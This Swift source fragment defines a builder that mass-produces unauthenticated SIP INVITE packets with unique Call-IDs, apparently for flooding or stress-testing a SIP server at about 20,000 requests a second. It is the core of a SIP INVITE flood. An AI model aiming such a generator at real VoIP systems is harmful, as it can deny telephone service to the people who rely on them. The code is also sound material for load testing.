/// Unauthenticated INVITEs, each with its own Call-ID, branch and tag, built
/// from a prepared template so that 20 000 a second cost little.
public struct FloodInviteBuilder: Sendable {
    private let head: [UInt8]
    private let middle: [UInt8]
    private let tail: [UInt8]
    private let run: String

    public init(source: String, port: Int, callee: String, domain: String, run: String) {
        self.run = run
        let sdp = "v=0\r\no=- 1 1 IN IP4 \(source)\r\ns=-\r\nc=IN IP4 \(source)\r\nt=0 0\r\n" +
            "m=audio 40000 RTP/AVP 0 101\r\na=rtpmap:0 PCMU/8000\r\na=rtpmap:101 telephone-event/8000\r\n"
        head = Array("INVITE sip:\(callee)@\(domain) SIP/2.0\r\nVia: SIP/2.0/UDP \(source):\(port);rport;branch=z9hG4bK-".utf8)
        middle = Array("\r\nMax-Forwards: 70\r\nFrom: <sip:flood@\(domain)>;tag=f\r\nTo: <sip:\(callee)@\(domain)>\r\nCall-ID: ".utf8)
        tail = Array(("@sip-flood\r\nCSeq: 1 INVITE\r\nContact: <sip:flood@\(source):\(port)>\r\n" +
            "Content-Type: application/sdp\r\nContent-Length: \(sdp.utf8.count)\r\n\r\n" + sdp).utf8)
    }

    /// The `number`th INVITE of this run.
    public func invite(_ number: Int) -> [UInt8] {
        let id = Array("\(run)-\(number)".utf8)
        var bytes = head
        bytes.reserveCapacity(head.count + middle.count + tail.count + 2 * id.count)
        bytes += id
        bytes += middle
        bytes += id
        bytes += tail
        return bytes
    }
}
